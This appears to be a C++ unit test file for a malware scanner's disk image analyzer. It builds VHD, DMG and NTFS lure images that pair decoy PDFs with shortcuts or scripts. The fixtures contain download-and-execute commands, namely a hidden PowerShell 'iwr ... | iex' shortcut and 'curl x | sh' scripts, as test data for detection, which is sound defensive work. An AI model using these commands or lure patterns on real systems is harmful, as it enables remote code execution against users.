// DiskImageAnalyzer on generated VHD, VHDX and DMG images, alone (RecordingContext) and
// inside the engine (an ISO volume in a VHD judged by the archive analyzer).
#include "analyzers/disk/disk_analyzer.h"

#include <gtest/gtest.h>

#include <chrono>

#include "analyzers/archive/archive_test_writer.h"
#include "analyzers/lnk/lnk_fixture.h"
#include "core/testing/recording_context.h"
#include "engine/scan.h"
#include "formats/disk/apfs_test_image.h"
#include "formats/disk/disk_test_images.h"
#include "formats/disk/hfs_test_image.h"
#include "formats/disk/ntfs_test_image.h"

namespace lg {
namespace {

using disk::testing::FatFileSpec;
using disk::testing::make_fat;
using lg::testing::RecordingContext;

std::string shortcut() {
  lnk::testing::LnkSpec spec;
  spec.path = {"Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"};
  spec.arguments = "-w hidden -c iwr https://example.invalid/a.ps1 | iex";
  return lnk::testing::build_lnk(spec);
}
const std::string kPdf = "%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";

RecordingContext run(FileType t, const Bytes& image) {
  RecordingContext ctx;
  EXPECT_TRUE(DiskImageAnalyzer(t).analyze(image, ctx).is_ok());
  return ctx;
}

std::vector<std::string> strings(const RecordingContext& ctx, const std::string& key) {
  auto it = ctx.facts.find(key);
  if (it == ctx.facts.end()) return {};
  return std::get<std::vector<std::string>>(it->second);
}

const RecordingContext::Finding* finding(const RecordingContext& ctx, Symbol s) {
  for (const auto& f : ctx.findings)
    if (f.symbol == s) return &f;
  return nullptr;
}

TEST(DiskImageAnalyzer, FixedVhdWithFatShortcutAndDecoy) {
  Bytes fat = make_fat({}, {{"Offer Letter.pdf.lnk", shortcut()},
                            {"Offer Letter.pdf", kPdf},
                            {"data/run.bin", "xyz", true}});
  Bytes vhd = disk::testing::make_fixed_vhd(disk::testing::make_mbr_disk(fat, 0x01));
  ASSERT_EQ(identify(vhd), FileType::kVhd);
  RecordingContext ctx = run(FileType::kVhd, vhd);
  EXPECT_EQ(ctx.str("format"), "vhd");
  EXPECT_EQ(ctx.str("disk_type"), "fixed");
  EXPECT_EQ(ctx.str("partition_scheme"), "mbr");
  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"partition1: FAT12"});
  EXPECT_EQ(ctx.num("entries"), 3);
  EXPECT_EQ(strings(ctx, "hidden_entries"), std::vector<std::string>{"data/run.bin"});
  ASSERT_EQ(ctx.children.size(), 3u);
  EXPECT_EQ(ctx.children[0].info.name, "Offer Letter.pdf.lnk");
  EXPECT_EQ(ctx.children[0].info.relation, "entry");
  EXPECT_EQ(to_string(ctx.children[0].data), shortcut());
  EXPECT_EQ(identify(ctx.children[0].data), FileType::kLnk);
  const auto* f = finding(ctx, Symbol::DISK_IMAGE_DECOY);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "Offer Letter.pdf.lnk");
  EXPECT_NE(f->evidence.detail.find("\"Offer Letter.pdf\""), std::string::npos);
  EXPECT_FALSE(ctx.has(Symbol::DISK_IMAGE_PAYLOAD));
}

TEST(DiskImageAnalyzer, DynamicVhdWithoutPartitionTable) {
  Bytes fat = make_fat({16, 8192, 1, 512}, {{"tools/setup.exe", "MZ-not-really"}});
  Bytes vhd = disk::testing::make_dynamic_vhd(fat, 64u << 20);
  ASSERT_EQ(identify(vhd), FileType::kVhd);
  RecordingContext ctx = run(FileType::kVhd, vhd);
  EXPECT_EQ(ctx.str("disk_type"), "dynamic");
  EXPECT_EQ(ctx.num("virtual_size"), 64 << 20);
  EXPECT_EQ(ctx.num("allocated_blocks"), 1);  // the second 2 MiB block is all zeros
  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"volume: FAT16"});
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.name, "tools/setup.exe");
  const auto* f = finding(ctx, Symbol::DISK_IMAGE_PAYLOAD);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "tools/setup.exe");
}

TEST(DiskImageAnalyzer, SparseTwoTerabyteVhdFinishesQuickly) {
  const std::uint64_t size = 2'000'000'000'000ull / (2u << 20) * (2u << 20);
  Bytes vhd = disk::testing::make_dynamic_vhd({}, size);
  auto start = std::chrono::steady_clock::now();
  RecordingContext ctx = run(FileType::kVhd, vhd);
  EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
  EXPECT_EQ(ctx.num("virtual_size"), static_cast<std::int64_t>(size));
  EXPECT_EQ(ctx.num("allocated_blocks"), 0);
  EXPECT_TRUE(ctx.children.empty());
  EXPECT_EQ(strings(ctx, "file_systems"),
            std::vector<std::string>{": no partition table or known file system"});
}

TEST(DiskImageAnalyzer, VhdxWithOnePayloadBlock) {
  Bytes fat = make_fat({}, {{"invoice.js", "var s = WScript.CreateObject('WScript.Shell');"}});
  Bytes vhdx = disk::testing::make_vhdx(fat, 16u << 20);
  ASSERT_EQ(identify(vhdx), FileType::kVhdx);
  RecordingContext ctx = run(FileType::kVhdx, vhdx);
  EXPECT_EQ(ctx.str("format"), "vhdx");
  EXPECT_EQ(ctx.num("virtual_size"), 16 << 20);
  EXPECT_EQ(ctx.num("present_blocks"), 1);  // the FAT's second MiB is all zeros
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_TRUE(ctx.has(Symbol::DISK_IMAGE_PAYLOAD));
}

TEST(DiskImageAnalyzer, DmgWithZlibFatPartition) {
  Bytes fat = make_fat(
      {}, {{"Job Description.pdf", kPdf}, {"Job Description.command", "#!/bin/sh\ncurl x | sh\n"}});
  Bytes dmg = disk::testing::make_dmg(fat, 0x80000005, 2048, "disk image (DOS_FAT_12 : 1)");
  ASSERT_EQ(identify(dmg), FileType::kDmg);
  RecordingContext ctx = run(FileType::kDmg, dmg);
  EXPECT_EQ(ctx.str("format"), "dmg");
  auto parts = strings(ctx, "partitions");
  ASSERT_EQ(parts.size(), 1u);
  EXPECT_EQ(parts[0], "disk image (DOS_FAT_12 : 1): sectors 0+2880, zlib");
  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"partition1: FAT12"});
  EXPECT_EQ(ctx.children.size(), 2u);
  EXPECT_TRUE(ctx.has(Symbol::DISK_IMAGE_DECOY));
}

TEST(DiskImageAnalyzer, DmgWithHfsPlusScriptAndDecoy) {
  Bytes hfs = disk::testing::make_hfs({{"Job Description.pdf", kPdf},
                                       {"Job Description.pdf.command", "#!/bin/sh\ncurl x|sh\n"},
                                       {".DS_Store", "Bud1"},
                                       {".background", "", true},
                                       {".background/bg.png", "\x89PNG\r\n\x1A\n"}},
                                      false, "Job Offer");
  RecordingContext ctx = run(FileType::kDmg, disk::testing::make_dmg(hfs, 0x80000006));
  EXPECT_EQ(strings(ctx, "file_systems"),
            std::vector<std::string>{"partition1: HFS+ \"Job Offer\""});
  EXPECT_EQ(ctx.num("entries"), 4);
  EXPECT_EQ(strings(ctx, "hidden_entries"), std::vector<std::string>{".DS_Store"});
  ASSERT_EQ(ctx.children.size(), 4u);
  const auto* f = finding(ctx, Symbol::DISK_IMAGE_DECOY);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "Job Description.pdf.command");
}

TEST(DiskImageAnalyzer, DamagedHfsPlusIsAnAnomaly) {
  Bytes hfs = disk::testing::make_hfs({{"a.pdf", kPdf}});
  std::fill(hfs.begin() + 3 * 4096, hfs.begin() + 5 * 4096, 0xEE);  // the catalog B-tree
  RecordingContext ctx = run(FileType::kHfsPlus, hfs);
  EXPECT_EQ(ctx.str("format"), "hfsplus");
  EXPECT_FALSE(ctx.anomalies.empty());
  EXPECT_TRUE(ctx.children.empty());
}

TEST(DiskImageAnalyzer, DmgWithApfsContainer) {
  auto apfs = disk::testing::make_apfs("Job Offer");
  if (!apfs) GTEST_SKIP() << "mkapfs (Debian apfsprogs) not installed";
  RecordingContext ctx =
      run(FileType::kDmg,
          disk::testing::make_dmg(apfs->whole(), 0x80000005, 2048, "disk image (Apple_APFS : 1)"));
  EXPECT_EQ(strings(ctx, "file_systems"),
            std::vector<std::string>{"partition1/volume1: APFS \"Job Offer\""});
  EXPECT_TRUE(ctx.anomalies.empty()) << ctx.anomalies[0];
  EXPECT_EQ(ctx.num("entries"), 0);  // mkapfs cannot add files: extraction is not exercised
}

// A bare container (no GPT or DMG around it) is its own type and its volumes are listed. Its
// one volume is empty: mkapfs cannot add files, so extraction from APFS is not exercised here.
TEST(DiskImageAnalyzer, BareApfsContainer) {
  auto apfs = disk::testing::make_apfs("Invoice");
  if (!apfs) GTEST_SKIP() << "mkapfs (Debian apfsprogs) not installed";
  const Bytes whole = apfs->whole();
  ASSERT_EQ(identify(whole), FileType::kApfs);
  RecordingContext ctx = run(FileType::kApfs, whole);
  EXPECT_EQ(ctx.str("format"), "apfs");
  EXPECT_EQ(strings(ctx, "file_systems"),
            std::vector<std::string>{"volume/volume1: APFS \"Invoice\""});
  EXPECT_TRUE(ctx.anomalies.empty()) << ctx.anomalies[0];
  EXPECT_EQ(ctx.num("entries"), 0);

  // Through the engine: identified as apfs, given to the disk analyzer, nothing failed.
  Config config = default_config();
  TextScanner scanner;
  Report report;
  Scan scan(config, scanner, report, make_analyzer);
  scan.run("Invoice.img", whole);
  ASSERT_FALSE(report.objects.empty());
  EXPECT_EQ(report.objects[0].type, "apfs");
  for (const auto& f : report.findings) {
    EXPECT_NE(f.symbol, "ANALYZER_FAILURE");
    EXPECT_NE(f.symbol, "TYPE_MISMATCH");
  }
}

TEST(DiskImageAnalyzer, DamagedApfsContainerIsAnAnomaly) {
  Bytes block0(1u << 20, 0);
  disk::testing::put_str(block0, 32, "NXSB");
  RecordingContext ctx = run(FileType::kVhd, disk::testing::make_fixed_vhd(block0));
  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"volume: apfs (unreadable)"});
  ASSERT_FALSE(ctx.anomalies.empty());
  EXPECT_NE(ctx.anomalies[0].find("APFS container not opened"), std::string::npos);
  EXPECT_TRUE(ctx.children.empty());
}

TEST(DiskImageAnalyzer, EncryptedDmg) {
  Bytes enc = to_bytes("encrcdsa");
  enc.resize(8192, 0x5A);
  ASSERT_EQ(identify(enc), FileType::kDmg);
  RecordingContext ctx = run(FileType::kDmg, enc);
  EXPECT_TRUE(ctx.has(Symbol::ARCHIVE_ENCRYPTED));
  auto it = ctx.facts.find("encrypted");
  ASSERT_NE(it, ctx.facts.end());
  EXPECT_TRUE(std::get<bool>(it->second));
}

TEST(DiskImageAnalyzer, FileOverTheObjectCapIsRefused) {
  Bytes fat = make_fat({}, {{"big.exe", std::string(64 * 1024, 'A')}, {"a.dat", "ok"}});
  Bytes vhd = disk::testing::make_fixed_vhd(fat);
  RecordingContext ctx;
  ctx.limits_.max_object_bytes = 32 * 1024;
  ASSERT_TRUE(DiskImageAnalyzer(FileType::kVhd).analyze(vhd, ctx).is_ok());
  EXPECT_TRUE(ctx.has(Symbol::LIMIT_EXCEEDED));
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.name, "a.dat");
  EXPECT_TRUE(ctx.has(Symbol::DISK_IMAGE_PAYLOAD));  // judged by name though not read
}

TEST(DiskImageAnalyzer, MalformedImagesAreAnomalies) {
  Bytes vhd = disk::testing::make_fixed_vhd(Bytes(4096, 0));
  disk::testing::put32be(vhd, vhd.size() - 512 + 60, 9);  // disk type 9
  RecordingContext ctx = run(FileType::kVhd, vhd);
  ASSERT_FALSE(ctx.anomalies.empty());
  EXPECT_TRUE(ctx.children.empty());
  RecordingContext v = run(FileType::kVhdx, to_bytes("vhdxfile"));
  EXPECT_FALSE(v.anomalies.empty());
}

// The engine hands the ISO volume of a VHD to the archive analyzer, which lists it and makes
// the same judgement: a shortcut next to a decoy PDF.
TEST(DiskImageScan, IsoVolumeInsideVhd) {
  Bytes iso = lg::testing::write_archive({"iso9660", "", "", ""},
                                         {{"Contract.pdf", kPdf}, {"Contract.lnk", shortcut()}});
  ASSERT_EQ(identify(iso), FileType::kIso9660);
  iso.resize((iso.size() + 511) / 512 * 512, 0);
  Bytes vhd = disk::testing::make_fixed_vhd(disk::testing::make_mbr_disk(iso, 0x17));
  RecordingContext ctx = run(FileType::kVhd, vhd);
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.name, "partition1.iso");
  EXPECT_EQ(ctx.children[0].info.relation, "volume");

  Config config = default_config();
  TextScanner scanner;
  Report report;
  Scan scan(config, scanner, report, make_analyzer);
  scan.run("contract.vhd", vhd);
  bool decoy = false, lolbin = false;
  for (const auto& f : report.findings) {
    decoy = decoy || f.symbol == "DISK_IMAGE_DECOY";
    lolbin = lolbin || f.symbol == "LNK_LOLBIN";
  }
  EXPECT_TRUE(decoy);
  EXPECT_TRUE(lolbin);
}

// NTFS in a fixed VHD (MBR type 0x07): the shortcut and the decoy come out of the volume as
// entries, the alternate data stream is a fact.
TEST(DiskImageAnalyzer, FixedVhdWithNtfsShortcutAndDecoy) {
  auto ntfs = disk::testing::make_ntfs(
      {{"Offer Letter.pdf", kPdf},
       {"Offer Letter.pdf.lnk", shortcut(), "Zone.Identifier", "[ZoneTransfer]\r\nZoneId=3\r\n"}});
  if (!ntfs) GTEST_SKIP() << "mkntfs/ntfscp (Debian ntfs-3g) not installed";
  Bytes vhd = disk::testing::make_fixed_vhd(disk::testing::make_mbr_disk(*ntfs, 0x07));
  RecordingContext ctx = run(FileType::kVhd, vhd);
  EXPECT_EQ(strings(ctx, "file_systems"), std::vector<std::string>{"partition1: NTFS \"LURE\""});
  EXPECT_EQ(ctx.num("entries"), 2);
  EXPECT_EQ(strings(ctx, "alternate_streams"),
            std::vector<std::string>{"Offer Letter.pdf.lnk:Zone.Identifier (26 bytes)"});
  ASSERT_EQ(ctx.children.size(), 2u);
  for (const auto& c : ctx.children) {
    if (c.info.name == "Offer Letter.pdf.lnk") {
      EXPECT_EQ(to_string(c.data), shortcut());
    }
  }
  const auto* f = finding(ctx, Symbol::DISK_IMAGE_DECOY);
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.value, "Offer Letter.pdf.lnk");
}

TEST(DiskImageAnalyzer, NtfsFileOverTheObjectCapIsRefused) {
  auto ntfs = disk::testing::make_ntfs({{"setup.exe", std::string(40'000, 'A')}, {"a.dat", "ok"}});
  if (!ntfs) GTEST_SKIP() << "mkntfs/ntfscp (Debian ntfs-3g) not installed";
  RecordingContext ctx;
  ctx.limits_.max_object_bytes = 32 * 1024;
  ASSERT_TRUE(DiskImageAnalyzer(FileType::kNtfs).analyze(*ntfs, ctx).is_ok());
  EXPECT_EQ(ctx.str("format"), "ntfs");
  EXPECT_TRUE(ctx.has(Symbol::LIMIT_EXCEEDED));
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.name, "a.dat");
  EXPECT_EQ(strings(ctx, "entry_names"), (std::vector<std::string>{"a.dat", "setup.exe"}));
  EXPECT_TRUE(ctx.has(Symbol::DISK_IMAGE_PAYLOAD));
}

// Bare volumes are identified and analyzed by the engine like images.
TEST(DiskImageScan, BareNtfsAndHfsVolumes) {
  std::vector<std::pair<std::string, Bytes>> images;
  images.push_back({"lure.img", disk::testing::make_hfs(
                                    {{"Contract.pdf", kPdf}, {"Contract.pdf.lnk", shortcut()}})});
  if (auto ntfs =
          disk::testing::make_ntfs({{"Contract.pdf", kPdf}, {"Contract.pdf.lnk", shortcut()}})) {
    images.push_back({"lure.img", std::move(*ntfs)});
  }
  for (const auto& [name, bytes] : images) {
    Config config = default_config();
    TextScanner scanner;
    Report report;
    Scan scan(config, scanner, report, make_analyzer);
    scan.run(name, bytes);
    bool decoy = false, lolbin = false;
    for (const auto& f : report.findings) {
      decoy = decoy || f.symbol == "DISK_IMAGE_DECOY";
      lolbin = lolbin || f.symbol == "LNK_LOLBIN";
    }
    EXPECT_TRUE(decoy) << file_type_name(identify(bytes));
    EXPECT_TRUE(lolbin) << file_type_name(identify(bytes));
  }
}

}  // namespace
}  // namespace lg
